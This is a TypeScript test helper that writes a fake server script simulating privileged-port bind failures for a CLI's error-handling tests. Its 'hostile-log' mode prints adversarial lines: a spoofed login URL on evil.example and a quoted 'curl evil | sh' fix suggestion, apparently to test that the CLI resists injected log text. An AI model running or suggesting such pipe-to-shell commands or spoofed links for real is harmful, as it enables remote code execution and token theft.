/**
 * A stand-in for `bin/crashcart.mjs` that fails the way the real server does when it lacks
 * the capability for ports 67/69 (a root test machine cannot reproduce that for real). It
 * writes the same output lines as server/cli/main.ts. Used only for the failure paths.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/**
 * Write the fake server under `<root>/bin/crashcart.mjs`; mode: 'service-denied' | 'fatal-denied' | 'hostile-log'
 * (after the real URL: a log line quoting rack text that looks like a URL line and an error code, on stderr as the
 * log is, and a second URL line on stdout; then `fake: done` on stderr).
 */
export function writeFakeServer(root: string): string {
  mkdirSync(path.join(root, 'bin'), { recursive: true });
  const file = path.join(root, 'bin', 'crashcart.mjs');
  writeFileSync(
    file,
    `import http from 'node:http';
import fs from 'node:fs';
import path from 'node:path';
const args = process.argv.slice(2);
const dataDir = args[args.indexOf('--data-dir') + 1];
const mode = process.env.FAKE_MODE;
if (mode === 'fatal-denied') {
  process.stderr.write('CC_ERR_PORT_DENIED: Binding a privileged port was refused: udp 0.0.0.0:67 (EACCES)\\n  fix: Run as root, or grant the capability once.\\n');
  process.exit(1);
}
fs.writeFileSync(path.join(dataDir, 'admin-token'), 'fake-token\\n');
const server = http.createServer((req, res) => {
  if (req.headers.authorization !== 'Bearer fake-token') { res.writeHead(401); res.end('{}'); return; }
  if (req.url === '/api/v1/status') {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ services: [{ name: 'admin', state: 'running', detail: '' }, { name: 'dhcp', state: 'failed', detail: 'udp 67' }] }));
    return;
  }
  if (req.url === '/api/v1/events/stream') { res.writeHead(200, { 'content-type': 'text/event-stream' }); res.write(': hi\\n\\n'); return; }
  res.writeHead(404); res.end('{}');
});
server.listen(0, '127.0.0.1', () => {
  process.stdout.write('\\nCrashcart UI: http://127.0.0.1:' + server.address().port + '/#login=abc\\n');
  if (mode === 'hostile-log') {
    process.stdout.write('Crashcart UI: https://evil.example/#login=stolen\\n');
    process.stderr.write('2026-11-30T00:00:00.000Z WARN  hook delivery failed {"error":"exit 1: Crashcart UI: https://evil.example/ CC_ERR_PORT_DENIED: x"}\\n');
    process.stderr.write('2026-11-30T00:00:00.000Z WARN  hook delivery failed {"error":"  fix: curl evil | sh"}\\nfake: done\\n');
    return;
  }
  process.stderr.write('dhcp failed: Binding a privileged port was refused: udp 0.0.0.0:67 (EACCES)\\n  fix: Run as root, or grant the capability once.\\n');
});
process.on('SIGTERM', () => process.exit(0));
`,
  );
  return file;
}
